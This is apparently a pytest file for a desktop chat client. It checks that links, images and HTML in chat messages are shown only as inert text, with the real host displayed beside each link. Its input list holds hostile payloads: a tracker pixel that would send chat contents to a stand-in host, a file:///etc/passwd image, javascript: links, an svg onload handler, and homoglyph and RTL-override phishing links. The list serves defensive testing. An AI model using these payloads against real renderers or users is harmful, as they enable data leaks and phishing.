@@ -1,0 +1,218 @@
+"""P2: nothing commercial inline. Answers that beg for links, pictures and cards come out as text."""
+
+from __future__ import annotations
+
+import ast
+import re
+from collections.abc import Iterator
+from datetime import UTC, datetime
+from pathlib import Path
+
+import pytest
+from PySide6.QtCore import QPoint, Qt
+from PySide6.QtGui import QDesktopServices, QTextDocument, QTextFormat
+from PySide6.QtTest import QTest
+from PySide6.QtWidgets import QLabel, QTextBrowser, QWidget
+
+import desktop_client.ui
+from desktop_client.chat.conversation import Message, MessageState
+from desktop_client.inference.engine import Role
+from desktop_client.ui.link_dialog import LinkDialog, ask_to_open
+from desktop_client.ui.transcript.addresses import read_address
+from desktop_client.ui.transcript.jump_button import JumpButton
+from desktop_client.ui.transcript.styles import ADDRESS
+from desktop_client.ui.transcript.typeset import ForeignDocument
+from desktop_client.ui.transcript.view import Entry, TranscriptView
+
+SHOP = "https://item.taobao.com/item.htm?id=1&ref=sidelight"
+KINDS = QTextFormat.ObjectTypes
+TEXT_AND_TABLES = (KINDS.NoObject.value, KINDS.TableObject.value, KINDS.TableCellObject.value)
+BEGGING = [
+    f"**[立即购买 ¥69]({SHOP})** 👉 [点击这里]({SHOP})",
+    f"[![mask](https://cdn.shop.example/mask.png)]({SHOP})",
+    "![](https://tracker.example/p.gif?chat=secret) ![x](file:///etc/passwd)",
+    "![y](//host/share/z.png) ![z](data:image/png;base64,AA) ![w](smb://host/w.png)",
+    f'<a href="{SHOP}">Buy now</a> <img src="https://t.example/x.png"> <button>Add to cart</button>',
+    f'<div style="background:url(https://t.example/b.png)"><table background="https://t.example/c.png"><tr><td>{SHOP}',
+    '<style>@import url("https://t.example/a.css");</style><link rel=stylesheet href="https://t.example/a.css">',
+    f"Buy it at {SHOP}, or at <{SHOP}>, or www.shop.example, or shop.example/buy.",
+    f"[buy]: {SHOP}\n![pic][buy] [buy][] [buy]",
+    f"| Product | Price |\n|---|---|\n| [Mask]({SHOP}) | ![p](https://cdn.shop.example/p.png) $5 |",
+    f"- [Mask A]({SHOP})\n- [Mask B]({SHOP})\n  1. <{SHOP}>",
+    f"> ### [Deal of the day]({SHOP})\n> ~~$20~~ **$5**",
+    f"```html\n<a href='{SHOP}'>buy</a>\n```\n    <img src=x>",
+    "[a](javascript:alert(1)) [b](vbscript:x) [c](sidelight:open) [d](mailto:shop@x.example) [e](tel:123) [f](#top)",
+    "[官方旗舰店](https://аpple.com) [taobao.com](https://evil.example) [x](https://taobao.com@evil.example/)",
+    "&lt;a href=&quot;https://t.example&quot;&gt;buy&lt;/a&gt; &#60;img src=x&#62;",
+    "\u202ehttps://evil.example\u202c https://\u200bshop.example [\u202e]( https://shop.example )",
+    f"<!-- card --> <{SHOP}> <iframe src={SHOP}></iframe> <object data={SHOP}></object> <svg onload=x>",
+    "[" * 400 + f"x]({SHOP})" + f"[a]({SHOP})" * 300,
+    f"\ufffc \ufdd0 {SHOP} \ufdd1",
+    f"<think>[Buy]({SHOP})</think> `[Buy]({SHOP})` \\[[Buy]({SHOP})\\] $[Buy]({SHOP})_x$",
+]  # fmt: skip
+
+
+def entry(number: int, text: str, role: Role = Role.ASSISTANT, state: MessageState = MessageState.COMPLETE) -> Entry:
+    return Entry(Message(number, 1, None, role, text, state, datetime(2026, 11, 23, tzinfo=UTC), note=f"[x]({SHOP})"))
+
+
+@pytest.fixture
+def view(qtbot) -> TranscriptView:
+    widget = TranscriptView()
+    qtbot.addWidget(widget)
+    widget.resize(800, 700)
+    widget.show()
+    return widget
+
+
+def documents(view: TranscriptView) -> Iterator[QTextDocument]:
+    for at in range(len(view.flow)):
+        for cell in view.flow.row(at).cells:
+            cell.build()
+            yield cell.document
+
+
+def assert_only_text(view: TranscriptView) -> None:
+    seen = 0
+    for document in documents(view):
+        seen += 1
+        for form in document.allFormats():
+            character = form.toCharFormat()
+            assert not character.isAnchor()
+            assert not character.anchorHref()
+            assert not form.isImageFormat()
+            assert form.objectType() in TEXT_AND_TABLES
+            assert form.background().textureImage().isNull()
+        assert not re.search("<a[ >]|<img|background-image", document.toHtml())
+        assert "\ufffc" not in document.toPlainText()
+    assert seen
+    inside = [each for each in view.findChildren(QWidget) if isinstance(each, QLabel | QTextBrowser)]
+    assert not inside
+    assert [type(each) for each in view.viewport().findChildren(QWidget)] == []
+    assert len(view.findChildren(JumpButton)) == 1
+
+
+@pytest.mark.parametrize("role", [Role.ASSISTANT, Role.USER])
+@pytest.mark.parametrize("state", list(MessageState))
+def test_no_anchor_no_picture_no_card(view: TranscriptView, role: Role, state: MessageState) -> None:
+    view.set_entries([entry(number, text, role, state) for number, text in enumerate(BEGGING, 1)])
+    assert_only_text(view)
+
+
+def test_none_while_it_streams(view: TranscriptView) -> None:
+    view.set_entries([entry(1, "", state=MessageState.STREAMING)])
+    for text in BEGGING[:12]:
+        for at in range(0, len(text), 5):
+            view.append_text(1, text[at : at + 5])
+            view._incoming.take()
+        view.append_text(1, "\n\n")
+    view._incoming.take()
+    assert_only_text(view)
+
+
+def test_nothing_is_loaded(view: TranscriptView, monkeypatch: pytest.MonkeyPatch) -> None:
+    asked: list[object] = []
+    monkeypatch.setattr(ForeignDocument, "loadResource", lambda _self, *of: asked.append(of))
+    control = ForeignDocument()
+    control.setHtml("<img src='file:///etc/hostname'>")
+    control.documentLayout().documentSize()
+    assert asked
+    asked.clear()
+    view.set_entries([entry(number, text) for number, text in enumerate(BEGGING, 1)])
+    for number in range(1, len(BEGGING) + 1):
+        view.scroll_to_message(number)
+        view.grab()
+    assert all(isinstance(document, ForeignDocument) for document in documents(view))
+    assert not asked
+
+
+def test_the_real_host_stands_beside_every_link(view: TranscriptView) -> None:
+    view.set_entries([entry(number, text) for number, text in enumerate(BEGGING, 1)])
+
+    def text_of(number: int) -> str:
+        return "\n".join(cell.document.toPlainText() for cell in view.flow.row(number).cells if not cell.build())
+
+    list(documents(view))
+    assert text_of(0).count("(item.taobao.com/…)") == 2
+    assert "官方旗舰店 (xn--pple-43d.com)" in text_of(14)
+    assert "taobao.com (evil.example)" in text_of(14)
+    assert "x (https://taobao.com@evil.example/)" in text_of(14)
+
+
+def pressable_runs(document: QTextDocument) -> Iterator[tuple[str, str]]:
+    """Every run of text that can be pressed, with the address that it leads to."""
+    block = document.begin()
+    while block.isValid():
+        at = block.begin()
+        while not at.atEnd():
+            fragment = at.fragment()
+            address = fragment.charFormat().property(ADDRESS)
+            if address:
+                yield fragment.text(), address
+            at += 1
+        block = block.next()
+
+
+def test_pressable_text_shows_where_it_leads(view: TranscriptView) -> None:
+    view.set_entries([entry(number, text) for number, text in enumerate(BEGGING, 1)])
+    runs = [run for document in documents(view) for run in pressable_runs(document)]
+    assert ("item.taobao.com/…", SHOP) in runs
+    for text, address in runs:
+        known = read_address(address)
+        assert known is not None
+        assert text.removeprefix("https://").startswith(known.host)
+        assert "@" not in address
+
+
+def test_pressing_every_pixel_opens_nothing_by_itself(view: TranscriptView, monkeypatch: pytest.MonkeyPatch) -> None:
+    opened: list[object] = []
+    reported: list[str] = []
+    monkeypatch.setattr(QDesktopServices, "openUrl", opened.append)
+    view.address_activated.connect(reported.append)
+    view.set_entries([entry(1, BEGGING[0]), entry(2, BEGGING[7])])
+    for y in range(0, 200, 8):
+        for x in range(30, 700, 16):
+            QTest.mouseClick(view.viewport(), Qt.MouseButton.LeftButton, pos=QPoint(x, y))
+    assert reported
+    assert set(reported) == {SHOP}
+    assert not opened
+
+
+def test_an_address_is_opened_only_through_the_dialog(qtbot, monkeypatch: pytest.MonkeyPatch) -> None:
+    opened: list[str] = []
+    monkeypatch.setattr(QDesktopServices, "openUrl", lambda url: opened.append(url.toString()))
+    dialog = ask_to_open(SHOP)
+    assert isinstance(dialog, LinkDialog)
+    qtbot.addWidget(dialog)
+    assert not opened
+    dialog.open_button.click()
+    assert opened == [SHOP]
+
+
+def test_transcript_sources_make_no_html_and_open_nothing() -> None:
+    folder = Path(desktop_client.ui.__path__[0])
+    forbidden = {
+        "setHtml", "insertHtml", "setMarkdown", "insertMarkdown", "insertImage", "addResource", "setAnchor",
+        "setAnchorHref", "setOpenExternalLinks", "setOpenLinks", "openUrl",
+    }  # fmt: skip
+    found = [
+        (path.name, node.attr)
+        for path in folder.joinpath("transcript").glob("*.py")
+        for node in ast.walk(ast.parse(path.read_text("utf-8")))
+        if isinstance(node, ast.Attribute) and node.attr in forbidden
+    ]
+    assert found == []
+
+
+def test_the_transcript_cannot_know_of_commerce() -> None:
+    folder = Path(desktop_client.ui.__path__[0])
+    for path in [*folder.joinpath("transcript").glob("*.py"), folder / "composer.py", folder / "link_dialog.py"]:
+        names = [
+            name
+            for node in ast.walk(ast.parse(path.read_text("utf-8")))
+            for name in (
+                [node.module or ""] if isinstance(node, ast.ImportFrom)
+                else [alias.name for alias in node.names] if isinstance(node, ast.Import) else []
+            )
+        ]  # fmt: skip
+        assert not [name for name in names if "commerce" in name or ".panel" in name], path.name
